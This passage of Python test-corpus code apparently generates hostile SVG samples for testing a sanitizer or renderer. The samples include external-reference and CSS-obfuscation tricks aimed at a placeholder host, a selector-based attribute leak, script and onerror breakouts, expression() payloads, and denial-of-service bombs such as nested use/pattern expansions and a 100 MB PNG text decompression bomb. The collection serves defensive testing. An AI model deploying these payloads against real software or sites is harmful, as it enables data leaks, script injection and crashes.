_body(
    "feimage-http",
    "a filter's picture from elsewhere",
    f'<filter id="f"><feImage href="@ASK@/a.png"/></filter><rect filter="url(#f)" {_BOX}/>',
)
_body(
    "feimage-fragment",
    "a filter that draws what it filters",
    f'<filter id="f"><feImage href="#r"/></filter><rect id="r" filter="url(#f)" {_BOX}/>',
)
_body(
    "gradient-external",
    "a gradient from elsewhere",
    f'<linearGradient id="a" href="@ASK@/a.svg#a"/><rect fill="url(#a)" {_BOX}/>',
)
_body(
    "pattern-external",
    "a pattern from elsewhere",
    f'<pattern id="a" href="@ASK@/a.svg#a"/><rect fill="url(#a)" {_BOX}/>',
)
_body(
    "filter-external",
    "a filter that inherits from elsewhere",
    f'<filter id="a" xlink:href="@ASK@/a.svg#a"/><rect filter="url(#a)" {_BOX}/>',
)
_body("textpath-external", "a text's way from elsewhere", '<text><textPath href="@ASK@/a.svg#a">x</textPath></text>')
_body("tref", "a text from elsewhere", '<text><tref xlink:href="@ASK@/a.svg#a"/></text>')
_body(
    "cursor-element",
    "a pointer from elsewhere",
    f'<cursor id="c" xlink:href="@ASK@/a.png"/><rect cursor="url(#c),auto" {_BOX}/>',
)
_body(
    "font-face-uri",
    "a font from elsewhere",
    '<font-face font-family="x"><font-face-src><font-face-uri xlink:href="@ASK@/a.svg#f"/></font-face-src></font-face><text font-family="x">a</text>',
)
_body(
    "svg-font",
    "a font of SVG with a handler",
    '<font><glyph unicode="a" onload="@RUN@"><image href="@ASK@/a.png"/></glyph></font>',
)
_body(
    "color-profile",
    "a colour profile from elsewhere",
    '<color-profile name="p" xlink:href="@ASK@/a.icc"/><rect fill="#fff icc-color(p,1)" width="9" height="9"/>',
)
_body(
    "svg-media",
    "SVG 2's films, sounds, pages",
    '<video href="@ASK@/a.mp4"/><audio xlink:href="@ASK@/a.mp3"/><iframe src="@ASK@/page"/><canvas/><source src="@ASK@/b"/>',
)
_body(
    "unknown-href",
    "an unknown element with an address",
    '<future href="@ASK@/a"/><mesh href="@ASK@/a#m"/><hatch href="@ASK@/a#h"/><view xlink:href="@ASK@"/>',
)
for _property in (
    "fill",
    "stroke",
    "filter",
    "mask",
    "clip-path",
    "marker-start",
    "marker-mid",
    "marker-end",
    "cursor",
):
    _body(
        f"attribute-{_property}",
        f"{_property} from elsewhere",
        f'<path {_property}="url(@ASK@/a.svg#a)" d="M0 0L50 50L90 9"/>',
    )
_body(
    "attribute-fill-fallback",
    "a colour behind a reference to elsewhere",
    f'<rect fill="url(@ASK@/a.svg#a) red" {_BOX}/>',
)
_body("attribute-quoted", "a quoted reference to elsewhere", f"""<rect fill="url('@ASK@/a.svg#a')" {_BOX}/>""")
_body(
    "attribute-escaped",
    "a reference in escapes of CSS",
    f'<rect fill="u\\72l(@ASK@/a.svg#a)" filter="\\75 \\72 \\6c(@ASK@/a.svg#a)" {_BOX}/>',
)
_body("attribute-comment", "a reference beside a comment of CSS", f'<rect fill="/**/url(@ASK@/a.svg#a)/**/" {_BOX}/>')
_body(
    "attribute-two-filters",
    "an honest filter before another",
    f'<filter id="a"><feOffset/></filter><rect filter="url(#a) url(@ASK@/a.svg#a) blur(1px)" {_BOX}/>',
)
_body(
    "attribute-two-masks",
    "an honest mask before another",
    f'<mask id="a"/><rect mask="url(#a), url(@ASK@/a.png)" {_BOX}/>',
)
_body(
    "attribute-fragment-tricks",
    "a fragment that is none",
    f'<rect fill="url(#a)url(@ASK@/a.svg#a)" stroke="url(#a @ASK@)" filter="url(#x);background:url(@ASK@/b)" {_BOX}/>',
)
_body("attribute-image-set", "a reference by image-set", f"""<rect mask="image-set('@ASK@/a.png' 1x)" {_BOX}/>""")
_body("attribute-src", "a reference by src()", f"""<rect fill="src('@ASK@/a.svg#a')" {_BOX}/>""")
_body(
    "attribute-upper",
    "attributes that only HTML knows",
    f'<rect FILL="url(@ASK@/a.svg#a)" STYLE="fill:url(@ASK@/b.svg#a)" {_BOX}/>',
)
_body(
    "attribute-prefixed-style",
    "a style under a prefix",
    f'<rect xmlns:s="{SVG}" s:style="fill:url(@ASK@/a.svg#a)" s:fill="url(@ASK@/b.svg#a)" {_BOX}/>',
)
_body(
    "id-in-url",
    "an id that ends the reference to it",
    """<linearGradient id="a) url(@ASK@/a.svg#a"/><rect fill="url(#a) url(@ASK@/a.svg#a)" width="9" height="9"/>""",
)
_body(
    "id-of-a-page",
    "ids that hide a page's own",
    '<g id="location"/><g id="document"/><g id="__proto__"/><g id="constructor"/><g name="cookie"/><use href="#__proto__"/>',
)
_body(
    "id-twice",
    "an id that is two things",
    f'<linearGradient id="a"/><filter id="a"><feImage href="@ASK@/a"/></filter><rect fill="url(#a)" filter="url(#a)" {_BOX}/>',
)
_body(
    "wrong-kind",
    "references to things of another kind",
    f'<rect id="a" {_BOX}/><rect fill="url(#a)" clip-path="url(#a)" mask="url(#a)" filter="url(#a)" marker-end="url(#a)" {_BOX}/>',
)

# ── Style sheets ──────────────────────────────────────────────────────────────────────────────────────────────────

_css("css-import", "a style sheet from elsewhere", '@import "@ASK@/a.css";')
_css("css-import-url", "a style sheet from elsewhere by url()", "@import url(@ASK@/a.css) screen;")
_css("css-import-escaped", "an import in escapes", '@\\69 mport "@ASK@/a.css";@\\000069\\00006dport "@ASK@/b.css";')
_css("css-import-comment", "an import around comments", '/**/@import/**/"@ASK@/a.css"/**/;@im/**/port "@ASK@/b.css";')
_css("css-import-upper", "an import in capitals", '@IMPORT URL("@ASK@/a.css");')
_css("css-import-charset", "an import after a charset", '@charset "utf-7";@import "@ASK@/a.css";')
_css("css-import-layer", "an import into a layer", '@layer a;@import "@ASK@/a.css" layer(a) supports(display:grid);')
_css(
    "css-import-comments-of-html",
    "an import behind comments of HTML",
    '<!-- @import "@ASK@/a.css"; -->'.replace("<", "&lt;"),
)
_css(
    "css-namespace",
    "a namespace that is an address",
    '@namespace "@ASK@/ns";@namespace s url(@ASK@/s);s|rect{fill:red}',
)
_css("css-font-face", "a font from elsewhere", "@font-face{font-family:x;src:url(@ASK@/a.woff2)}.c{font-family:x}")
_css(
    "css-font-face-data",
    "a font in a data URI",
    f"@font-face{{font-family:x;src:url({in_data(bytes(64), 'font/woff2')})}}.c{{font-family:x}}",
)
_css(
    "css-page",
    "rules of other kinds",
    "@page{background:url(@ASK@/p)}@counter-style x{symbols:url(@ASK@/c)}@property --x{syntax:'*';inherits:true;initial-value:url(@ASK@/i)}.c{fill:var(--x)}",
)
_css(
    "css-supports",
    "a rule under conditions",
    "@supports (display:grid){@media all{@layer x{.c{fill:url(@ASK@/a.svg#a)}}}}",
)
_css("css-nested", "a rule in a rule", "svg{&amp; .c{filter:url(@ASK@/a.svg#a)}rect{mask-image:url(@ASK@/b)}}")
_css(
    "css-scope",
    "rules by place and by container",
    "@scope(svg){.c{fill:url(@ASK@/a.svg#a)}}@container (width>0){.c{mask-image:url(@ASK@/b)}}@starting-style{.c{fill:url(@ASK@/c#a)}}",
)
_css(
    "css-keyframes",
    "a reference in an animation",
    "@keyframes k{from{fill:url(@ASK@/a.svg#a);mask-image:url(@ASK@/b)}}.c{animation:k 9s infinite}",
)
_css(
    "css-dark",
    "a reference on dark papers",
    "@media (prefers-color-scheme:dark){.c{fill:url(@ASK@/a.svg#a)}}@media (prefers-color-scheme:light){.c{fill:url(@ASK@/b.svg#a)}}",
)
for _property in (
    "fill", "stroke", "filter", "backdrop-filter", "mask", "mask-image", "-webkit-mask-image", "mask-border-source", "clip-path", "marker",
    "cursor", "background", "background-image", "list-style", "border-image", "content", "shape-outside", "offset-path", "d",
):  # fmt: skip
    _css(
        f"css-{_property.strip('-')}",
        f"{_property} from elsewhere",
        f"svg,.c{{display:block;{_property}:url(@ASK@/a.svg#a)}}.c::before{{{_property}:url(@ASK@/b)}}",
    )
_css(
    "css-image-set",
    "pictures by image-set",
    """.c,svg{background:image-set("@ASK@/a.png" 1x);mask:-webkit-image-set(url(@ASK@/b.png) 1x)}""",
)
_css(
    "css-functions",
    "pictures by other functions",
    """svg{background:cross-fade(url(@ASK@/a),url(@ASK@/b),50%),image("@ASK@/c"),src("@ASK@/d"),element(#r),paint(x)}""",
)
_css(
    "css-url-escaped",
    "url in escapes",
    ".c{fill:u\\72l(@ASK@/a.svg#a);stroke:\\75\\72\\6c('@ASK@/b.svg#a');filter:\\000075rl(@ASK@/c.svg#a)}",
)
_css(
    "css-url-upper",
    "url in capitals and white space",
    ".c{fill:URL(  '@ASK@/a.svg#a'  );stroke:uRl(\t@ASK@/b.svg#a\n)}",
)
_css(
    "css-url-comment",
    "url with a comment in it",
    ".c{fill:ur/**/l(@ASK@/a.svg#a);stroke:url/**/(@ASK@/b.svg#a);filter:url(/**/@ASK@/c.svg#a)}",
)
_css("css-url-wide", "url in wide letters", ".c{fill:ｕｒｌ(@ASK@/a.svg#a)}")
_css("css-url-unclosed", "url that nobody closes", ".c{fill:url(@ASK@/a.svg#a")
_css("css-string-newline", "a string that a line's end closes", ".c{font-family:'\n;fill:url(@ASK@/a.svg#a);x:'}")
_css("css-escaped-newline", "a string that goes on behind a line's end", ".c{fill:url('\\\n@ASK@/a.svg#a')}")
_css(
    "css-variable",
    "a reference through a property of one's own",
    ".c{--a:url(@ASK@/a.svg#a);fill:var(--a);mask-image:var(--b,url(@ASK@/b))}",
)
_css(
    "css-variable-on-root",
    "a reference through inherited properties in two halves",
    ":root{--u:url(;--v:@ASK@/a.svg#a);--w:var(--u)var(--v)}.c{fill:var(--w)}",
)
_css(
    "css-variable-bomb",
    "properties that grow twofold, forty times",
    ":root{--a0:x;" + "".join(f"--a{n}:var(--a{n - 1})var(--a{n - 1});" for n in range(1, 41)) + "}.c{fill:var(--a40)}",
)
_css(
    "css-attr",
    "a reference from an attribute",
    ".c{fill:attr(id type(<url>));content:attr(class url);mask-image:if(style(--x):url(@ASK@/a);else:url(@ASK@/b))}".replace(
        "<", "&lt;"
    ),
)
_css(
    "css-expression",
    "what old browsers ran",
    ".c{width:expression(@RUN@);behavior:url(@ASK@/a.htc);-moz-binding:url(@ASK@/a.xml#b);fill:expression(@RUN@)}",
)
_css(
    "css-breakout",
    "a style sheet that ends in HTML within a string",
    """.c{content:"&lt;/style&gt;&lt;script&gt;@RUN@&lt;/script&gt;"}""",
)
_css(
    "css-selector-breakout",
    "a selector that ends a style sheet in HTML",
    """[id="&lt;/style&gt;&lt;img src=x onerror=@RUN@&gt;"]{fill:red}""",
)
_css(
    "css-leak",
    "selectors that tell what is there",
    "".join(f'[id^="{letter}"]{{mask-image:url(@ASK@/{letter})}}' for letter in "pqrst"),
)
_css("css-important", "what wins over all", ".c{fill:url(@ASK@/a.svg#a)!important;fill:red}")
_css("css-bad-blocks", "blocks that nobody closes in their order", ".c{fill:red}}}{([)]}.c{mask-image:url(@ASK@/a)}/*")
_css("css-deep", "blocks in blocks, ten thousand deep", "@media all{" * 10_000 + ".c{fill:red}" + "}" * 10_000)
_css(
    "css-deep-functions",
    "functions in functions, fifty thousand deep",
    ".c{fill:" + "calc(" * 50_000 + "1" + ")" * 50_000 + "}",
)
_css("css-deep-not", "selectors in selectors, five thousand deep", ":not(" * 5_000 + ".c" + ")" * 5_000 + "{fill:red}")
_css(
    "css-many-rules",
    "thirty thousand rules",
    "".join(f".c{n} .c:not(#x{n}){{fill:#{n % 4096:03x}}}" for n in range(30_000)),
)
_css(
    "css-many-selectors",
    "fifty thousand selectors of a rule",
    ",".join(f"g .c{n}" for n in range(50_000)) + "{fill:red}",
)
_css("css-long-selector", "a selector of twenty thousand steps", " ".join(["*"] * 20_000) + "{fill:red}")
_css("css-nul", "an escape of NUL", ".c{fill:u\\0 rl(@ASK@/a);fi\\0ll:red;font-family:'\\0'}")
_css("css-escape-huge", "an escape beyond Unicode", ".c\\110000{fill:\\ffffff red}.\\d800{fill:red}")
_body(
    "css-typed",
    "style sheets of odd types",
    '<style type="text/x-css">@import "@ASK@/a.css";</style><style type="text/css" media="print,all">rect{fill:url(@ASK@/b#a)}</style>',
)
_body(
    "css-linked",
    "a style sheet that is linked",
    '<style xlink:href="@ASK@/a.css" href="@ASK@/b.css" src="@ASK@/c.css"/><link rel="stylesheet" href="@ASK@/d.css"/>',
)
_body("css-prefixed", "a style sheet under a prefix", f'<s:style xmlns:s="{SVG}">@import "@ASK@/a.css";</s:style>')
_body(
    "css-xhtml",
    "a style sheet of XHTML",
    f'<style xmlns="{XHTML}">@import "@ASK@/a.css";svg{{background:url(@ASK@/b)}}</style>',
)
_body(
    "css-in-parts",
    "a style sheet in several pieces",
    '<style>@import <![CDATA["@ASK@]]>/a.css<!-- -->";r<g/>ect{fill:u<g>x</g>rl(@ASK@/b#a)}</style>',
)
_body(
    "css-entity",
    "a style sheet from entities",
    "<style>&i;</style>",
    before="<!DOCTYPE svg [<!ENTITY i \"@import '@ASK@/a.css';\">]>",
)
_body(
    "style-attribute",
    "a reference in a style attribute",
    f'<rect style="fill:url(@ASK@/a.svg#a);mask-image:url(@ASK@/b)" {_BOX}/>',
)
_body(
    "style-attribute-root",
    "a background of the root",
    "",
    root='viewBox="0 0 9 9" style="background:url(@ASK@/a.png);content:url(@ASK@/b)"',
)
_body(
    "style-attribute-braces",
    "a style attribute that holds rules",
    f'<rect style="}}@import url(@ASK@/a.css);*{{fill:url(@ASK@/b#a)" {_BOX}/>',
)
_body(
    "style-attribute-breakout",
    "a style attribute that breaks out",
    f"""<rect style='fill:"&gt;&lt;script&gt;@RUN@&lt;/script&gt;' {_BOX}/>""",
)
_body(
    "style-attribute-variable",
    "a reference through a style's own property",
    f'<g style="--x:url(@ASK@/a.svg#a)"><rect style="fill:var(--x)" stroke="var(--x)" {_BOX}/></g>',
)
_body("style-attribute-font", "a font in short", '<text style="font:12px url(@ASK@/a),x;src:url(@ASK@/b)">x</text>')
_body(
    "selector-backtracking",
    "a word for a slow pattern",
    f'<style>{"a" * 50_000}!{{}}</style><rect fill="rgb({"1 " * 20_000}" transform="{"translate(" * 9_000}" points="{"-" * 50_000}" {_BOX}/>',
)
_body(
    "number-backtracking",
    "numbers for a slow pattern",
    f'<path d="M{"1" * 60_000}x"/><rect width="{"1" * 60_000}e" x="{"0." * 30_000}" viewBox="{" " * 60_000}x" fill="#{"a" * 60_000}"/>',
)
_body(
    "white-space-backtracking",
    "white space for a slow pattern",
    f'<rect fill="red{" " * 60_000}x" transform="scale(1{" " * 60_000}x" href="{" " * 60_000}x" style="fill{" " * 60_000}x:red" class="{" " * 60_000}" {_BOX}/>',
)
_body(
    "url-backtracking",
    "references for a slow pattern",
    f'<rect fill="{"url(" * 15_000}" stroke="url(#{"a" * 60_000}" filter="{"url(#a) " * 9_000}" {_BOX}/>',
)

# ── Too much ──────────────────────────────────────────────────────────────────────────────────────────────────────

for _depth in (500, 5_000, 50_000):
    _body(f"deep-{_depth}", f"groups {_depth:,} deep", f"{'<g>' * _depth}<path d='M0 0h9v9z'/>{'</g>' * _depth}")
_add("million-elements", "a million elements", lambda: drawing("<path/>" * 1_000_000))
_add("half-million-circles", "four megabytes of circles that are seen", lambda: drawing('<circle r="9"/>' * 270_000))
_add("path-huge", "a path of twenty megabytes", lambda: drawing(f'<path d="M0 0{"L1 1L9 9 " * 2_200_000}"/>'))
_add(
    "path-long",
    "a path of three megabytes, dashed finely",
    lambda: drawing(f'<path stroke="red" stroke-dasharray="1e-9" d="M0 0{"L1 1L9 9 " * 330_000}"/>'),
)
_add("points-long", "a polygon of three megabytes", lambda: drawing(f'<polygon points="{"1 1 9 9 " * 390_000}"/>'))
_add("text-long", "a text of three megabytes", lambda: drawing(f"<text>{'x ' * 1_500_000}</text>"))
_add(
    "text-positions",
    "a text with a place a letter",
    lambda: drawing(f'<text x="{"1 " * 300_000}" rotate="{"1 " * 300_000}">{"x" * 300_000}</text>'),
)
_add("comment-long", "a comment of ten megabytes", lambda: drawing(f"<!--{'x' * 10_000_000}-->"))
_add("name-long", "a name of three megabytes", lambda: drawing(f"<{'x' * 3_000_000}/>"))
_add("attribute-long", "an attribute of twelve megabytes", lambda: drawing(f'<g data-x="{"x" * 12_000_000}"/>'))
_add(
    "attributes-many",
    "an element with two hundred thousand attributes",
    lambda: drawing("<g " + " ".join(f'a{n}="1"' for n in range(200_000)) + "/>"),
)
_add(
    "namespaces-many",
    "a hundred thousand namespaces",
    lambda: drawing("<g " + " ".join(f'xmlns:n{n}="u:{n}"' for n in range(100_000)) + "/>"),
)
_add(
    "namespaces-deep",
    "a namespace a level",
    lambda: drawing(
        "".join(f'<n{n}:g xmlns:n{n}="u:{n}">' for n in range(200))
        + "".join(f"</n{n}:g>" for n in reversed(range(200)))
    ),
)
_add("ids-many", "a hundred thousand ids", lambda: drawing("".join(f'<g id="a{n}"/>' for n in range(100_000))))
_add(
    "stops-many",
    "a gradient of a hundred thousand stops",
    lambda: drawing(
        '<linearGradient id="g">'
        + "".join(f'<stop offset="{n / 100_000}"/>' for n in range(100_000))
        + '</linearGradient><rect fill="url(#g)" width="9" height="9"/>'
    ),
)
_add(
    "classes-many",
    "an element of a hundred thousand classes, and a rule for each of some",
    lambda: drawing(
        f'<style>{"".join(f".c{n}{{fill:red}}" for n in range(5_000))}</style><rect class="{" ".join(f"c{n}" for n in range(100_000))}"/>'
        * 3
    ),
)
_add(
    "rules-times-elements",
    "three thousand rules for ten thousand elements",
    lambda: drawing(
        f"<style>{''.join(f'g * rect:nth-child({n}n+1){{fill:red}}' for n in range(3_000))}</style>{'<rect/>' * 10_000}"
    ),
)
_add(
    "has-selectors",
    "rules that look everywhere for each element",
    lambda: drawing(f"<style>{':has(~ * + rect){fill:red}' * 200}</style>{'<rect/>' * 5_000}"),
)
_add(
    "inherit-chain",
    "gradients that inherit in a row of ten thousand",
    lambda: drawing(
        "".join(f'<linearGradient id="g{n}" href="#g{n + 1}"/>' for n in range(10_000))
        + '<rect fill="url(#g0)" width="9" height="9"/>'
    ),
)
_add(
    "inherit-cycle",
    "gradients that inherit in a ring",
    lambda: drawing(
        '<linearGradient id="a" href="#b"/><linearGradient id="b" href="#a"/><rect fill="url(#a)" width="9" height="9"/>'
    ),
)


def _copies(inner: int) -> str:
    return f'<use href="#a{inner}"/>' * 10


def _squares(with_property: str, inner: int, times: int = 10) -> str:
    return f'<rect width="99" height="99" {with_property}="url(#a{inner})"/>' * times


@_made
def _use_bomb() -> str:
    """copies that grow tenfold, nine times"""
    steps = "".join(f'<g id="a{n}">{_copies(n - 1)}</g>' for n in range(1, 10))
    return drawing(f'<defs><path id="a0" d="M0 0h1v1z"/>{steps}</defs><use href="#a9"/>')


@_made
def _use_bomb_backwards() -> str:
    """copies that grow twofold, thirty times, the first at the end and by xlink"""
    steps = "".join(
        f'<g id="a{n}"><use xlink:href="#a{n - 1}"/><use xlink:href="#a{n - 1}"/></g>' for n in range(30, 0, -1)
    )
    return drawing(f'<use xlink:href="#a30"/>{steps}<rect id="a0" width="1" height="1"/>')


@_made
def _use_row() -> str:
    """copies in a row of five thousand"""
    return drawing(
        '<rect id="a0" width="1" height="1"/>' + "".join(f'<use id="a{n}" href="#a{n - 1}"/>' for n in range(1, 5_000))
    )


@_made
def _symbol_bomb() -> str:
    """symbols that hold symbols, tenfold"""
    steps = "".join(f'<symbol id="a{n}" viewBox="0 0 1 1">{_copies(n - 1)}</symbol>' for n in range(1, 9))
    return drawing(f'<symbol id="a0"><rect width="1" height="1"/></symbol>{steps}<use href="#a8"/>')


@_made
def _pattern_bomb() -> str:
    """patterns painted with patterns, tenfold"""
    steps = "".join(
        f'<pattern id="a{n}" width=".1" height=".1">' + _squares("fill", n - 1) + "</pattern>" for n in range(1, 9)
    )
    return drawing(
        f'<pattern id="a0" width=".1" height=".1"><rect width="9" height="9"/></pattern>{steps}<rect fill="url(#a8)" width="99" height="99"/>'
    )


@_made
def _pattern_cycle() -> str:
    """a pattern painted with itself"""
    return drawing(
        '<pattern id="a" width="1" height="1"><rect fill="url(#a)" width="9" height="9"/></pattern><rect fill="url(#a)" width="99" height="99"/>'
    )


@_made
def _pattern_tiny() -> str:
    """a tiny pattern on a huge area"""
    return drawing(
        '<pattern id="a" width="1e-6" height="1e-6" patternUnits="userSpaceOnUse"><circle r="1e-7"/></pattern><rect fill="url(#a)" width="1e6" height="1e6"/>'
    )


@_made
def _mask_nest() -> str:
    """masks of masks, tenfold"""
    steps = "".join(f'<mask id="a{n}">' + _squares("mask", n - 1) + "</mask>" for n in range(1, 8))
    return drawing(
        f'<mask id="a0"><rect width="99" height="99"/></mask>{steps}<rect width="99" height="99" mask="url(#a7)"/>'
    )


@_made
def _mask_row() -> str:
    """masks with masks of their own in a row of a thousand"""
    return drawing(
        "".join(f'<mask id="m{n}" mask="url(#m{n + 1})"><rect width="9" height="9"/></mask>' for n in range(1_000))
        + '<rect mask="url(#m0)" width="9" height="9"/>'
    )


@_made
def _clip_nest() -> str:
    """clips of clips, twofold, thirty times"""
    steps = "".join(
        f'<clipPath id="a{n}" clip-path="url(#a{n - 1})">' + _squares("clip-path", n - 1, 2) + "</clipPath>"
        for n in range(1, 30)
    )
    return drawing(
        f'<clipPath id="a0"><rect width="9" height="9"/></clipPath>{steps}<rect width="99" height="99" clip-path="url(#a29)"/>'
    )


@_made
def _clip_cycle() -> str:
    """clips and masks that cut themselves"""
    return drawing(
        '<clipPath id="a" clip-path="url(#a)"><rect width="9" height="9"/></clipPath><mask id="m"><rect mask="url(#m)" width="9" height="9"/></mask><g clip-path="url(#a)" mask="url(#m)"/>'
    )


@_made
def _marker_bomb() -> str:
    """markers on every point of paths that are markers"""
    path = f"M0 0{'l1 1' * 100}"
    steps = "".join(
        f'<marker id="a{n}" markerWidth="9" markerHeight="9"><path d="{path}" marker-mid="url(#a{n - 1})"/></marker>'
        for n in range(1, 5)
    )
    return drawing(f'<marker id="a0"><path d="M0 0h1"/></marker>{steps}<path d="{path}" marker-mid="url(#a4)"/>')


@_made
def _marker_crowd() -> str:
    """a big marker on each of a hundred thousand points"""
    inner = '<circle r="9"/>' * 200
    return drawing(
        f'<marker id="m" markerWidth="99" markerHeight="99">{inner}</marker><path d="M0 0{"l1 1" * 100_000}" marker-mid="url(#m)"/>'
    )


def _filtered(name: str, trick: str, steps: str, box: str = 'x="-5" y="-5" width="11" height="11"') -> None:
    _body(
        f"filter-{name}", trick, f'<filter id="f" {box}>{steps}</filter><rect width="90" height="90" filter="url(#f)"/>'
    )


_filtered("blur", "a blur without end", '<feGaussianBlur stdDeviation="1e9"/>')
_filtered(
    "blur-attributes",
    "blurs of odd numbers",
    '<feGaussianBlur stdDeviation="1e308 nan"/><feGaussianBlur stdDeviation="-1"/><feDropShadow stdDeviation="99999" dx="1e30"/>',
)
_filtered("turbulence", "clouds of a million octaves", '<feTurbulence baseFrequency="9" numOctaves="1000000"/>')
_filtered(
    "convolve",
    "a convolution of ten thousand by ten thousand",
    f'<feConvolveMatrix order="10000" kernelMatrix="{"1 " * 10_000}"/>',
)
_filtered(
    "convolve-small-unit",
    "a convolution of tiny units",
    '<feConvolveMatrix order="99 99" kernelMatrix="1" kernelUnitLength="1e-9"/>',
)
_filtered("morphology", "an erosion without end", '<feMorphology operator="dilate" radius="1e9"/>' * 10)
_filtered(
    "lighting",
    "a light on tiny units",
    '<feDiffuseLighting kernelUnitLength="1e-9" surfaceScale="1e30"><fePointLight x="1" y="1" z="1"/></feDiffuseLighting>',
)
_filtered(
    "displacement",
    "a displacement without end",
    '<feDisplacementMap in="SourceGraphic" in2="SourceGraphic" scale="1e30"/>',
)
_filtered("tile", "tiles of nothing", '<feFlood width="1e-9" height="1e-9"/><feTile/>' * 20)
_filtered(
    "region",
    "a filter of a huge region",
    '<feGaussianBlur stdDeviation="99"/>',
    'x="-1e9" y="-1e9" width="2e9" height="2e9" filterUnits="userSpaceOnUse"',
)
_filtered("resolution", "a filter of a huge resolution", "<feOffset/>", 'filterRes="100000 100000"')
_filtered("steps", "a filter of five thousand steps", '<feGaussianBlur stdDeviation="20"/>' * 5_000)
_filtered(
    "merge",
    "a merge that doubles, thirty times",
    "".join(
        f'<feMerge result="r{n}"><feMergeNode in="r{n - 1}"/><feMergeNode in="r{n - 1}"/></feMerge>'
        for n in range(1, 31)
    ),
)
_filtered(
    "table",
    "a transfer of a hundred thousand steps",
    f'<feComponentTransfer><feFuncR type="table" tableValues="{"0 1 " * 50_000}"/></feComponentTransfer>',
)
_body(
    "filter-nested",
    "filters in groups in groups",
    '<filter id="f"><feGaussianBlur stdDeviation="50"/></filter>'
    + '<g filter="url(#f)">' * 50
    + "<rect/>"
    + "</g>" * 50,
)
_body(
    "filter-functions",
    "filters as functions of CSS",
    f'<rect style="filter:{"blur(500px) " * 500}drop-shadow(0 0 1e9px red)" {_BOX}/>',
)
_body("opacity-deep", "layers in layers", '<g opacity=".99">' * 58 + '<rect width="90" height="90"/>' + "</g>" * 58)
_body(
    "svg-in-svg",
    "drawings in drawings, each enlarged",
    '<svg viewBox="0 0 1e-5 1e-5" overflow="visible">' * 50 + '<rect width="1" height="1"/>' + "</svg>" * 50,
)
_body(
    "numbers-huge",
    "numbers beyond all",
    f'<rect x="1e308" y="-1e308" width="1e999" height="{"9" * 5_000}" rx="nan" stroke-width="inf"/><circle r="1e38" cx="-1e38"/>',
)
_body(
    "numbers-none",
    "words for numbers",
    '<rect x="NaN" y="Infinity" width="-Infinity" height="0x10" opacity="१" stroke-miterlimit="-1" stroke-width="１"/>',
)
_body(
    "path-numbers",
    "a path of numbers beyond all",
    '<path d="M1e308 1e308L-1e308 1e999A1e300 1e300 0 1 1 1e-300 1C0,0 NaN Infinity 9 9z" stroke="red" stroke-width="1e30"/>',
)
_body(
    "arc-huge", "a circle beyond all, dashed", '<circle r="1e9" stroke="red" stroke-dasharray="1e-3 1e-3" fill="none"/>'
)
_body(
    "dash-tiny",
    "dashes of nothing",
    '<path d="M0 0h1e6" stroke="red" stroke-dasharray="1e-9,1e-9" stroke-dashoffset="1e30"/>',
)
_body(
    "dash-long", "a hundred thousand dashes", f'<path d="M0 0h1e6" stroke="red" stroke-dasharray="{"1 2 " * 50_000}"/>'
)
_body(
    "transform-huge",
    "transformations beyond all",
    f'<g transform="scale(1e30) rotate(1e300) skewX(90) matrix(1e308 0 0 0 0 0)"><rect {_BOX}/></g><g transform="{"scale(2) " * 5_000}"><rect {_BOX}/></g>',
)
_body("viewbox-huge", "a drawing beyond all", "", root='viewBox="0 0 1e30 1e30"')
_body("viewbox-tiny", "a drawing of nearly nothing", "", root='viewBox="0 0 1e-30 1e-30"')
_body("viewbox-odd", "a drawing without extent", "", root='viewBox="0 0 NaN -1" width="0" height="nan"')
_body("viewbox-far", "a drawing far away", "", root='viewBox="1e300 -1e300 1 1" width="10" height="10"')
_body("size-huge", "a drawing of a milliard of pixels", "", root='width="1e9" height="1e9"')
_body("size-units", "a drawing in odd units", "", root='width="1e9in" height="100vmax" viewBox="0 0 9 9"')
_body("size-thin", "a drawing a million times as wide as high", "", root='viewBox="0 0 1000000 1"')
_body("size-none", "a drawing without a size", "", root="")
_add(
    "image-20000",
    "a picture of twenty thousand by twenty thousand pixels",
    lambda: drawing(f'<image href="{in_data(png(20_000, 20_000), "image/png")}" {_BOX}/>'),
)
_add(
    "image-header-lie",
    "a picture that says it has four milliards of pixels",
    lambda: drawing(f'<image href="{in_data(png(65_000, 65_000, data=zlib.compress(b"")), "image/png")}" {_BOX}/>'),
)
_add(
    "image-text-bomb",
    "a picture whose text unpacks to a hundred megabytes",
    lambda: drawing(f'<image href="{in_data(png(1, 1, extra=_text_bomb()), "image/png")}" {_BOX}/>'),
)
_add(
    "images-many",
    "ten thousand pictures",
    lambda: drawing(f'<image href="{in_data(png(1, 1), "image/png")}" {_BOX}/>' * 10_000),
)
_add(
    "images-big",
    "thirty pictures of three thousand by three thousand",
    lambda: drawing(f'<image href="{in_data(png(3_000, 3_000), "image/png")}" {_BOX}/>' * 30),
)
_add(
    "image-base64-broken",
    "pictures whose base64 is none",
    lambda: drawing(
        f'<image href="data:image/png;base64,{"=" * 99}{"A" * 100_001}" {_BOX}/><image href="data:image/png;base64,é" {_BOX}/>'
    ),
)


def _text_bomb() -> bytes:
    body = b"Comment\0\0" + zlib.compress(bytes(100_000_000), 9)
    return struct.pack(">I", len(body)) + b"zTXt" + body + struct.pack(">I", zlib.crc32(b"zTXt" + body))


@_made
def _data_in_data() -> str:
    """a drawing in a drawing in a drawing, twelve deep"""
    inner = f'<svg xmlns="{SVG}" viewBox="0 0 9 9"><rect width="9" height="9"/></svg>'
    for _ in range(12):
        inner = f'<svg xmlns="{SVG}" viewBox="0 0 9 9"><image width="9" height="9" href="{in_data(inner, "image/svg+xml")}"/></svg>'
    return inner


# ── Encodings and bytes ───────────────────────────────────────────────────────────────────────────────────────────

_RUNS = drawing("<script>1</script>", before='<?xml version="1.0" encoding="@@"?>')


def _encoded(name: str, trick: str, codec: str, mark: bytes = b"", declared: str | None = None) -> None:
    _add(name, trick, lambda: mark + _RUNS.replace("@@", declared or codec).encode(codec))


_encoded("utf-16-le", "UTF-16 with a mark", "utf-16-le", codecs.BOM_UTF16_LE, "utf-16")
_encoded("utf-16-be", "UTF-16 the other way with a mark", "utf-16-be", codecs.BOM_UTF16_BE, "utf-16")
_encoded("utf-16-bare", "UTF-16 without a mark", "utf-16-le", b"", "utf-16")
_encoded("utf-16-lie", "UTF-16 that calls itself UTF-8", "utf-16-le", codecs.BOM_UTF16_LE, "utf-8")
_encoded("utf-32", "UTF-32", "utf-32", b"")
_encoded("utf-7-declared", "UTF-7 by name", "utf-8", b"", "utf-7")
_encoded("ebcdic", "a mainframe's letters", "cp037", b"", "IBM037")
_encoded("shift", "letters by shift", "iso2022_jp", b"", "iso-2022-jp")
_encoded("unknown-encoding", "an encoding that nobody knows", "utf-8", b"", "x-user-defined")
